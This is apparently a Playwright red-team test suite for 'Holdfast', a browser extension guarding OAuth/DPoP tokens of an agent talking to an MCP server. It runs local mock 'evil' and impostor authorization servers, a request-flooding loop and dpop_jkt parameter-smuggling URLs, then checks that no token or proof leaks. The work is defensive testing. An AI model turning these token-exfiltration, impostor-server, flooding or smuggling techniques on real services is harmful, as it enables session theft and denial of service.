import type { Frame, Page } from '@playwright/test';
import { decodeJwt } from 'jose';
import type { ResourceServerEntry } from '../src/demo/resource/log.ts';
import { framed } from './support/framed.ts';
import { declineAll } from './support/further.ts';
import { createLatch } from './support/latch.ts';
import { revokeIn } from './support/menu.ts';
import { type Attack, form, type Known, request, speak } from './support/red-team/attack.ts';
import { FROM_ELSEWHERE } from './support/red-team/from-elsewhere.ts';
import { FROM_PAGE } from './support/red-team/from-page.ts';
import { FROM_AUTHORIZATION_SERVER, FROM_RESOURCE } from './support/red-team/from-servers.ts';
import { FROM_WORKERS } from './support/red-team/from-workers.ts';
import { createSwitch } from './support/switched.ts';
import {
  call,
  expect,
  openAgent,
  openPopup,
  sessionsIn,
  shareScene,
  signIn,
  test,
  type World,
} from './support/world.ts';

/** What a session of the agent's is, which requests its token stood in, and what they are like. */
const SESSIONS = {
  bound: {
    binding: 'required',
    shows: 'Bound',
    hasToken: ({ scheme }: ResourceServerEntry) => scheme === 'DPoP',
    own: { scheme: 'DPoP', proofs: 1 },
  },
  held: {
    binding: 'none',
    shows: 'Held',
    hasToken: ({ sub }: ResourceServerEntry) => sub !== undefined, // a handle leaves as a bearer token, too
    own: { scheme: 'Bearer', proofs: 0 },
  },
} as const;
type Kept = keyof typeof SESSIONS;
const KEPT = Object.keys(SESSIONS) as Kept[];

/** A signed-in agent, and all that an attacker could wish to have around it. */
async function battlefield(world: World, kept: Kept) {
  const { binding, hasToken, own } = SESSIONS[kept];
  /** The header fields of requests of Holdfast's own to the token endpoint: those with a proof, or with the real refresh token. */
  const sent: string[][] = [];
  const slow = createLatch();
  const hostile = createSwitch();
  const { auth, mcp } = await world.servers({
    binding,
    auth: {
      intercept: async ({ url, headers, rawHeaders }) => {
        if (url === '/token' && (binding === 'none' || headers.dpop)) {
          sent.push(rawHeaders.map((field) => field.toLowerCase()));
        }
        if (headers['accept-language'] === SLOW) await slow.opened;
        return false;
      },
    },
    mcp: { intercept: hostile.intercept },
  });
  const reached: string[] = [];
  /** What the attacker's authorization server says of itself, by the last part of its issuer. */
  const impostors: Record<string, Record<string, unknown>> = {};
  const evil = await world.site('evil', (request, response) => {
    const { searchParams } = new URL(request.url ?? '', 'http://evil');
    if (searchParams.has('to')) {
      const location = searchParams.get('to') ?? '';
      response.writeHead(307, { location, 'access-control-allow-origin': '*' }).end();
      return;
    }
    reached.push(`${request.url}\n${request.rawHeaders.join('\n')}`);
    request.on('data', (chunk) => reached.push(String(chunk)));
    const headers = {
      'access-control-allow-origin': '*',
      'access-control-allow-headers': `*, ${request.headers['access-control-request-headers'] ?? ''}`,
      'content-type': 'application/json',
    };
    const impostor = impostors[request.url?.split('/').at(-1) ?? ''];
    response.writeHead(200, headers).end(
      JSON.stringify(
        impostor ?? {
          issuer: auth.issuer,
          authorization_endpoint: `${auth.issuer}/auth`,
          token_endpoint: `${evil.origin}/token`,
          revocation_endpoint: `${evil.origin}/revoke`,
          response_types_supported: ['code'],
          dpop_signing_alg_values_supported: ['ES256'],
        },
      ),
    );
  });
  /** Which paths behind the firewall were asked for with a proof. */
  const inside: (string | undefined)[] = [];
  const intranet = await world.site('intranet', ({ url, headers }, response) => {
    if (headers.dpop) inside.push([url, headers.authorization].filter(Boolean).join(' '));
    response
      .writeHead(200, { 'content-type': 'application/json' })
      .end('{"access_token":"INTRANET","token_type":"DPoP"}');
  });
  const crossing = await world.site('crossing', ({ url = '' }, response) => {
    const issuer = `${crossing.origin}/${url.split('/').at(-1)}`;
    const headers = { 'access-control-allow-origin': '*', 'content-type': 'application/json' };
    if (url === '/redirecting/token') {
      response.writeHead(307, { ...headers, location: `${intranet.origin}/redirected` }).end();
    } else if (url.includes('oauth-protected-resource')) {
      response.writeHead(200, headers).end(JSON.stringify({ resource: issuer, authorization_servers: [issuer] }));
    } else {
      const token_endpoint = issuer.endsWith('/named') ? `${intranet.origin}/token` : `${issuer}/token`;
      const dpop_signing_alg_values_supported = ['ES256'];
      response
        .writeHead(200, headers)
        .end(JSON.stringify({ issuer, token_endpoint, dpop_signing_alg_values_supported }));
    }
  });
  const agent = await world.agent();
  const browser = await world.protect(agent, [auth, mcp, evil, intranet, crossing]);
  const page = await openAgent(browser, agent);
  await signIn(page, { sdk: 'v2', resource: mcp.resource });
  await call(page);
  await declineAll(browser, agent.origin);
  await page.bringToFront();
  const tokens = await page.evaluate(() => window.agent.tokens('v2'));
  const known: Known = {
    resource: mcp.resource,
    issuer: auth.issuer,
    access: tokens.access_token as string,
    refresh: tokens.refresh_token as string,
    clientId: auth.log.find(({ codeChallenge }) => codeChallenge)?.clientId ?? '',
    evil: evil.origin,
    intranet: intranet.origin,
    crossing: crossing.origin,
    extension: browser.id,
  };

  /** Runs one attack from a place that is not the agent: not even a token without a proof may leave from there. */
  async function attackFrom(place: Page | Frame, each: Attack): Promise<void> {
    const before = mcp.log.length;
    await attack(each, place);
    const presented = mcp.log.slice(before).filter(hasToken);
    for (const entry of presented) expect(entry, each.name).toMatchObject({ ...own, origin: agent.origin });
  }

  /** Runs one attack; whatever it is, no secret may come out and nothing may be accepted that is not the agent's. */
  async function attack(
    { name, hope, run, got: wanted, isOfProofs, hears }: Attack,
    place: Page | Frame,
  ): Promise<void> {
    await test.step(name, async () => {
      const before = { mcp: mcp.log.length, issued: auth.issued.accessTokens.length };
      const got = await run(place, known);
      const out = [got, ...reached].join('\n');
      test.info().annotations.push({ type: `${name}: hoped for ${hope}`, description: got.slice(0, 200) });
      for (const secret of [...auth.issued.accessTokens, ...auth.issued.refreshTokens]) {
        expect(out.includes(secret), `${name}: a real token came out`).toBe(false);
      }
      expect(out, `${name}: what CORS had closed came out`).not.toContain('INTRANET');
      const proofs = [...reached.join('\n').matchAll(/^dpop\n(eyJ[\w.-]+)$/gim)].map(
        ([, proof = '']) => decodeJwt(proof).htu,
      );
      const harmless = hears === 'its own proof' ? [known.resource] : [];
      expect(harmless, `${name}: a proof went elsewhere`).toEqual(expect.arrayContaining(proofs));
      const strayed = mcp.log.slice(before.mcp).filter((entry) => entry.path !== '/mcp' && hasToken(entry));
      if (!hears) expect(strayed, `${name}: the token stood beside the resource`).toEqual([]);
      // What its server says of itself is open to everybody, and Holdfast reads it.
      const accepted = mcp.log
        .slice(before.mcp)
        .filter(
          ({ status, method, path }) => method !== 'OPTIONS' && status < 300 && !path.startsWith('/.well-known/'),
        );
      for (const entry of accepted) expect(entry, name).toMatchObject({ ...own, origin: agent.origin });
      expect(auth.issued.accessTokens.length, `${name}: tokens were issued`).toBe(before.issued);
      if (wanted && !(isOfProofs && kept === 'held')) expect(got, name).toMatch(wanted);
    });
  }

  return {
    world,
    hostile,
    auth,
    mcp,
    agent,
    browser,
    page,
    attack,
    attackFrom,
    known,
    sent,
    inside,
    reached,
    impostors,
    slow,
    evil,
    intranet,
  };
}

/** What script of the page tries, and its workers. */
const BY_SCRIPT: readonly Attack[] = [...FROM_PAGE, ...FROM_WORKERS];

for (const kept of KEPT) {
  test.describe(`a ${kept} session`, () => {
    const field = shareScene((world) => battlefield(world, kept));

    test(`${BY_SCRIPT.length} attacks from the protected page itself take nothing away of a ${kept} session`, async () => {
      test.setTimeout(120_000);
      const { page, attack, sent, inside } = field();
      const before = sent.length;
      for (const each of BY_SCRIPT) await attack(each, page);
      await call(page);
      // What Holdfast sent itself: no header of the page's, and to nobody that a redirect named. Some of it did leave.
      expect(sent.length).toBeGreaterThan(before);
      expect(sent.flat()).not.toContain('x-forwarded-for');
      expect(inside).toEqual(['/token', '/token']);
    });

    test(`from elsewhere, nothing is taken of a ${kept} session`, async () => {
      test.setTimeout(120_000);
      const { world, auth, mcp, agent, browser, page, attackFrom, known } = field();
      const stranger = await world.agent('stranger');
      const neighbour = await world.agent('neighbour');
      await world.protect(neighbour, [auth, mcp]);
      const places = {
        'a cross-origin frame in the agent’s page': stranger.origin,
        'a frame of another protected site in the agent’s page': neighbour.origin,
        'a sandboxed frame of the agent': undefined,
      };
      await page.bringToFront();
      for (const [place, address] of Object.entries(places)) {
        await test.step(place, async () => {
          const frame = await framed(page, address);
          for (const each of FROM_ELSEWHERE) {
            await call(page); // the agent's token is presented in this tab now
            await attackFrom(frame, each);
          }
          await call(page);
        });
      }

      const other = await openAgent(browser, stranger);
      await test.step('an unprotected page, in which the agent is framed', async () => {
        const frame = await framed(other, agent.origin);
        const read = await other.evaluate(() => {
          try {
            return JSON.stringify(frames[0]?.localStorage);
          } catch (error) {
            return String(error);
          }
        });
        expect(read).toContain('SecurityError');
        for (const each of FROM_ELSEWHERE) await attackFrom(other, each);
        // The framed agent is the agent still: it may use its own session, through its own wrapper.
        expect(await frame.evaluate(() => typeof window.agent)).toBe('object');
        expect(known.access).toMatch(/^hf_/);
        await call(page);
      });

      await test.step('another protected site does not speak for the agent, though it says that it is the agent', async () => {
        const speaking = await openAgent(browser, neighbour);
        const bodies = [
          { kind: 'prove', token: known.access, method: 'POST', url: known.resource },
          { kind: 'form', url: `${known.issuer}/token`, headers: [], body: form(refreshing(known)).body },
          { kind: 'form', url: `${known.issuer}/token/revocation`, headers: [], body: `token=${known.refresh}` },
        ];
        const before = auth.log.length;
        const answers = JSON.parse(await speak(speaking, bodies, { origin: agent.origin })) as {
          body: { kind: string };
        }[];
        expect(answers.map(({ body }) => body.kind)).toEqual(['pass', 'answer', 'pass']);
        expect(auth.log.slice(before)).toEqual([]);
      });
    });

    test(`hostile servers get nothing of another’s ${kept} session, and none keeps the agent busy`, async () => {
      const { agent, browser, page, attack, known, impostors, reached, evil, hostile } = field();

      for (const [index, [name, metadata]] of Object.entries(FROM_AUTHORIZATION_SERVER).entries()) {
        const own = `${evil.origin}/as${index}`;
        const said = {
          issuer: own,
          authorization_endpoint: `${own}/auth`,
          token_endpoint: `${own}/token`,
          revocation_endpoint: `${own}/revoke`,
          introspection_endpoint: `${own}/introspect`,
          pushed_authorization_request_endpoint: `${own}/par`,
          response_types_supported: ['code'],
          dpop_signing_alg_values_supported: ['ES256'],
          ...metadata({ own, honest: known.issuer, resource: known.resource }),
        };
        impostors[`as${index}`] = said;
        const post = (url: unknown, members: Record<string, string>): Promise<string> =>
          request(page, typeof url === 'string' ? url : own, form(members));
        const run = async (): Promise<string> => {
          const got = [await request(page, `${evil.origin}/.well-known/oauth-authorization-server/as${index}`, {})];
          for (const token of [known.refresh, known.access]) {
            for (const endpoint of [said.revocation_endpoint, said.introspection_endpoint, `${own}/revoke`]) {
              got.push(await post(endpoint, { token, client_id: known.clientId }));
            }
          }
          const refresh = refreshing(known);
          if (!String(said.token_endpoint).startsWith(`${known.issuer}/token`))
            got.push(await post(said.token_endpoint, refresh));
          got.push(await post(`${own}/token`, refresh));
          return got.map((each) => each.slice(0, 200)).join('\n');
        };
        await attack({ name: `authorization server: ${name}`, hope: 'the tokens of another’s session', run }, page);
        await call(page);
      }

      for (const [name, answer] of Object.entries(FROM_RESOURCE)) {
        let asked = 0;
        hostile.set((incoming, response) => {
          if (incoming.method === 'OPTIONS' || !incoming.headers.authorization) return false;
          asked += 1;
          answer(incoming, response, evil.origin);
          return true;
        });
        const run = (): Promise<string> =>
          request(page, known.resource, {
            method: 'POST',
            headers: {
              authorization: `Bearer ${known.access}`,
              'content-type': 'application/json',
              accept: 'application/json, text/event-stream',
            },
            body: '{"jsonrpc":"2.0","id":1,"method":"tools/list"}',
          });
        const hope = 'the token elsewhere, or an agent that never comes to rest';
        await attack({ name: `MCP server: ${name}`, hope, run, hears: 'its own proof' }, page);
        expect(asked, name).toBeLessThan(60); // Chrome itself follows twenty redirects
        hostile.set(undefined);
        await call(page);
      }

      await test.step('the session’s own server is told of its end, and no other', async () => {
        const before = reached.length;
        const popup = await openPopup(browser, agent.origin);
        // The attacks have left many sessions that are exposed.
        await popup.getByRole('searchbox').fill(new URL(known.resource).host);
        await revokeIn(sessionsIn(popup).getByRole('article').filter({ hasText: SESSIONS[kept].shows }));
        await expect(
          sessionsIn(popup).getByText(/The authorization server (confirmed it|took the refresh token back)/),
        ).toBeVisible();
        expect(reached).toHaveLength(before);
      });
    });
  });
}

/** A request with it is answered when the test is over. */
const SLOW = 'x-slow';

test('another agent that floods the background and the server holds nobody up', async ({ world }) => {
  const { auth, mcp, agent, browser, page, known, slow } = await battlefield(world, 'bound');
  const other = await world.agent('other');
  await world.protect(other, [auth, mcp]);
  const flooding = await openAgent(browser, other);
  const popup = await openPopup(browser, agent.origin);
  await expect(sessionsIn(popup).getByRole('article')).toBeVisible();
  const floods = await flooding.evaluateHandle(
    ([token, resource, lazy]) => {
      const flood = { isOver: false };
      const again = async (url: string, init: RequestInit) => {
        while (!flood.isOver) await fetch(url, init).catch(() => null);
      };
      const code = new URLSearchParams({ grant_type: 'authorization_code', code: 'x', client_id: 'me', resource });
      for (let index = 0; index < 10; index += 1) {
        void again(token, { method: 'POST', body: code });
        void fetch(token, { method: 'POST', body: code, headers: { 'accept-language': lazy } }).catch(() => null);
        const authorization = `Bearer hf_${String(index).padStart(43, 'A')}`;
        void again(resource, { method: 'POST', body: '{}', headers: { authorization } });
        void again(resource, { method: 'POST', body: '{}' });
      }
      return flood;
    },
    [`${known.issuer}/token`, known.resource, SLOW] as const,
  );
  const ofOther = () =>
    auth.log.filter(({ endpoint, origin }) => endpoint === 'token' && origin === other.origin).length;
  // The flood takes all of the machine: what is waited for is looked at often.
  const patience = { timeout: 10_000, intervals: [50] };
  await expect.poll(ofOther, patience).toBeGreaterThan(1);

  const refreshed = request(page, `${known.issuer}/token`, form(refreshing(known)));
  await Promise.all([
    expect(async () => call(page)).toPass(patience),
    expect.poll(() => Promise.race([refreshed, 'waits']), patience).toMatch(/^200/),
  ]);
  await revokeIn(sessionsIn(popup).getByRole('article'));
  await expect(sessionsIn(popup).getByText('The authorization server confirmed it.')).toBeVisible(patience);
  await floods.evaluate((flood) => {
    flood.isOver = true;
  });
  slow.open();
});

test('a page cannot smuggle a key of its own into the authorization request', async ({ world }) => {
  const { auth, mcp } = await world.servers();
  const agent = await world.agent();
  const browser = await world.protect(agent, [auth, mcp]);
  const page = await openAgent(browser, agent);
  const own = 'A'.repeat(43);
  const wanted = page.evaluate(
    (options) =>
      new Promise<string>((resolve) => {
        window.open = (url) => {
          resolve(String(url));
          return null;
        };
        void window.agent.connect(options).catch(() => undefined);
      }),
    { sdk: 'v2', resource: mcp.resource, popup: true } as const,
  );
  const authorization = new URL(await wanted);
  const seen = () => auth.log.filter(({ codeChallenge, path }) => path === '/auth' && codeChallenge);
  const queries = [`&dpop_jkt=${own}`, `&dpop_jkt=${own}&dpop_jkt=${own}`, `&dpop_jkt=${own}&x=request_uri=`] as const;
  const tries = [
    ...queries.map((query) => ['a frame', query] as const),
    ['a link', queries[0]],
    ['a form', queries[1]],
    ['the address', queries[2]],
  ] as const;
  for (const [way, query] of tries) {
    const before = seen().length;
    await page.evaluate(
      ([how, url]) => {
        const [target = '', given = ''] = url.split('?');
        const link = Object.assign(document.createElement('a'), { href: url, target: '_blank' });
        const form = Object.assign(document.createElement('form'), { action: target, target: '_blank' });
        for (const [name, value] of new URLSearchParams(given)) {
          form.append(Object.assign(document.createElement('input'), { type: 'hidden', name, value }));
        }
        document.body.append(link, form);
        if (how === 'a link') link.click();
        if (how === 'a form') form.submit();
        if (how === 'a frame') document.body.append(Object.assign(document.createElement('iframe'), { src: url }));
        if (how === 'the address') location.assign(url);
      },
      [way, authorization + query] as const,
    );
    await expect.poll(() => seen().length, `${way} ${query}`).toBeGreaterThan(before);
    for (const { dpopJkt } of seen()) {
      expect(dpopJkt, `${way} ${query}`).toMatch(/^[\w-]{43}$/);
      expect(dpopJkt, `${way} ${query}`).not.toBe(own);
    }
  }
  await page.waitForURL(/\/interaction\//);
  await page.goto(agent.origin);
  // What has named its key already, or says so, names no other beside it.
  const before = seen().length;
  const pushed = `${authorization}&dpop_jkt=${own}&request_uri=urn:ietf:params:oauth:request_uri:x`;
  await page.evaluate((url) => location.assign(url), pushed);
  await expect.poll(() => seen().length).toBeGreaterThan(before);
  expect(seen().at(-1)?.dpopJkt).toBeUndefined();
  await page.waitForURL(/\/callback/);
});

/** The members of a token request that spends the refresh handle. */
const refreshing = ({ refresh, clientId }: Known) => ({
  grant_type: 'refresh_token',
  refresh_token: refresh,
  client_id: clientId,
});
